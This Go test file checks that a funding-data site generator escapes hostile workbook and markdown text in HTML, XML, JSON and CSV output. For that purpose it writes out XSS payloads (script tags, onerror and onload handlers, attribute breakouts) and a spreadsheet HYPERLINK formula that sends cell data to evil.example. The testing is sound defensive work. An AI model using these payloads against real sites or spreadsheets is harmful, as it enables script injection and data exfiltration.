package pages_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"fundsite/generator/sitetest"
	"fundsite/generator/workbook"
)

// hostile is text a workbook cell or a markdown file could hold, meant to
// run in a reader's browser or break out of an attribute.
const (
	hostileScript = `<script>alert(1)</script>`
	hostileArea   = `O'Brien & "Sons" <b>Trust</b>`
	// hostileFormula runs when a CSV download is opened in a spreadsheet,
	// unless it is neutralised.
	hostileFormula = `=HYPERLINK("https://evil.example/?"&A1,"Click")`
)

// writeHostileProject writes a project whose every text cell is hostile.
func writeHostileProject(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	files := map[string]string{
		"site.toml": `title = "Funding \"<script>alert(1)</script>\" & more"
base_url = "https://example.org/"
`,
		"content/areas/obrien.md": `+++
area = "O'Brien & \"Sons\" <b>Trust</b>"
summary = "<script>alert(1)</script>"
+++

Raw HTML stays off: <script>alert(1)</script> <img src=x onerror=alert(1)>
and [a link](https://example.org/"onmouseover="alert(1)). The area got {{ sum year="2023/24" }}.
`,
	}
	for name, text := range files {
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.MkdirAll(filepath.Join(dir, "data"), 0o755); err != nil {
		t.Fatal(err)
	}
	err := workbook.Write(filepath.Join(dir, "data", "funding.xlsx"), []workbook.SheetSpec{{
		Name:   "Allocations",
		Header: []string{"Fund", "Financial year", "Area", "Amount (£)", "Basis", "Source", "Notes"},
		Rows: [][]any{
			{"Reform " + hostileScript + " Fund", "2023/24", hostileArea, 530000, `"><svg onload=alert(1)>`, `/"><svg onload=alert(1)>`, hostileScript},
			{"Reform " + hostileScript + " Fund", "2023/24", "Kent", 410000, "+1+1", `https://example.org/"><script>alert(1)</script>`, hostileFormula},
		},
	}, {
		Name:   "Areas",
		Header: []string{"Area code", "Name", "Region"},
		Rows:   [][]any{{"E1", hostileArea, hostileScript}, {"E2", "Kent", "@SUM(1+1)"}},
	}, {
		Name:   "Funds",
		Header: []string{"Name", "Short name", "Department", "Description", "Source address"},
		Rows:   [][]any{{"Reform " + hostileScript + " Fund", `R"F`, `Dept "of" <i>things</i>`, `<img src=x onerror=alert(1)>`, `https://example.org/"><script>alert(1)</script>`}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	return dir
}

// TestHostileTextIsEscapedEverywhere builds a site from a workbook and a
// narrative full of markup and reads every file back: the markup must
// appear as text, never as elements, attributes or links.
func TestHostileTextIsEscapedEverywhere(t *testing.T) {
	dir := writeHostileProject(t)
	out := filepath.Join(dir, "public")
	sitetest.BuildInto(t, filepath.Join(dir, "site.toml"), out)
	files := sitetest.Snapshot(t, out)
	if len(files) == 0 {
		t.Fatal("no files built")
	}
	for name, data := range files {
		switch filepath.Ext(name) {
		case ".html", ".xml":
			checkMarkup(t, name, string(data))
		case ".json":
			if !json.Valid(data) {
				t.Errorf("%s is not valid JSON", name)
			}
		case ".csv":
			checkCSV(t, name, data)
		}
	}
	all := string(files[filepath.Join("data", "allocations.csv")])
	if !strings.Contains(all, `"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")"`) || !strings.Contains(all, "'+1+1") {
		t.Errorf("data/allocations.csv does not keep the formulas as text:\n%s", all)
	}
	area := areaPage(t, files)
	title := between(t, area, "<title>", "</title>")
	if !strings.Contains(title, "O&#39;Brien &amp; &#34;Sons&#34; &lt;b&gt;Trust&lt;/b&gt;") {
		t.Errorf("area page <title> does not show the area name as text: %s", title)
	}
	if !strings.Contains(title, "Funding &#34;&lt;script&gt;alert(1)&lt;/script&gt;&#34; &amp; more") {
		t.Errorf("area page <title> does not show the site title as text: %s", title)
	}
	seen := text(area)
	for _, want := range []string{"O&#39;Brien &amp; &#34;Sons&#34; &lt;b&gt;Trust&lt;/b&gt;", "&lt;script&gt;alert(1)&lt;/script&gt;", "Raw HTML stays off"} {
		if !strings.Contains(seen, want) {
			t.Errorf("area page text lacks %q", want)
		}
	}
	if !strings.Contains(area, `<meta name="description" content="O&#39;Brien &amp; &#34;Sons&#34; &lt;b&gt;Trust&lt;/b&gt; received £530,000 from the Reform &lt;script&gt;alert(1)&lt;/script&gt; Fund in 2023/24.">`) {
		t.Errorf("area page meta description is not escaped:\n%s", between(t, area, "<head>", "</head>"))
	}
	fund := readPage(t, out, "funds/reform-script-alert-1-script-fund/index.html")
	for _, want := range []string{"<title>Reform &lt;script&gt;alert(1)&lt;/script&gt; Fund", "<p>&lt;img src=x onerror=alert(1)&gt;</p>"} {
		if !strings.Contains(fund, want) {
			t.Errorf("fund page lacks %q", want)
		}
	}
}

// jsonLD is the one script element a page may have: data, never run, with
// any "<" in it escaped as \u003c so it cannot close the element.
var jsonLD = regexp.MustCompile(`(?s)<script type="application/ld\+json">([^<]*)</script>`)

// A chart page also holds each chart's option as JSON (in which encoding/json
// escapes every "<") and loads the site's own chart scripts.
var (
	chartOption = regexp.MustCompile(`<script type="application/json" id="chart-[a-z0-9-]+-option">([^<]*)</script>`)
	chartScript = regexp.MustCompile(`<script defer src="(?:\.\./|/)*assets/[a-z0-9./-]+\.js"></script>`)
)

// checkMarkup fails when hostile markup appears as markup in an HTML or
// XML file.
func checkMarkup(t *testing.T, name, page string) {
	t.Helper()
	page = jsonLD.ReplaceAllString(page, "")
	for _, m := range chartOption.FindAllStringSubmatch(page, -1) {
		if !json.Valid([]byte(m[1])) {
			t.Errorf("%s: a chart's option is not valid JSON: %s", name, m[1])
		}
	}
	page = chartOption.ReplaceAllString(page, "")
	page = chartScript.ReplaceAllString(page, "")
	// Maps are SVG of fundsite's own; the hostile cells hold "<svg onload".
	for _, bad := range []string{"<script", "<b>", "<i>", "<img", "<svg onload", `href="javascript:`} {
		if i := strings.Index(page, bad); i >= 0 {
			t.Errorf("%s contains %q unescaped: …%s…", name, bad, page[max(0, i-100):min(len(page), i+100)])
		}
	}
}

// checkCSV fails when a CSV field would run as a formula in a spreadsheet
// (OWASP's CSV injection): it starts with = + - @ tab or CR and is not a number.
func checkCSV(t *testing.T, name string, data []byte) {
	t.Helper()
	records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(data, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Errorf("%s: %v", name, err)
		return
	}
	for i, rec := range records {
		for _, field := range rec {
			if field == "" || !strings.ContainsRune("=+-@\t\r", rune(field[0])) {
				continue
			}
			if _, err := strconv.ParseFloat(field, 64); err != nil {
				t.Errorf("%s record %d: field %q would run as a formula", name, i+1, field)
			}
		}
	}
}

// areaPage finds the hostile area's page whatever its slug.
func areaPage(t *testing.T, files map[string][]byte) string {
	t.Helper()
	for name, data := range files {
		if strings.HasPrefix(name, filepath.Join("areas", "obrien")) && filepath.Base(name) == "index.html" {
			return string(data)
		}
	}
	var names []string
	for name := range files {
		names = append(names, name)
	}
	t.Fatalf("no page for the hostile area among %v", names)
	return ""
}

func between(t *testing.T, s, start, end string) string {
	t.Helper()
	i := strings.Index(s, start)
	j := strings.Index(s, end)
	if i < 0 || j < i {
		t.Fatalf("no %s…%s in page", start, end)
	}
	return s[i : j+len(end)]
}
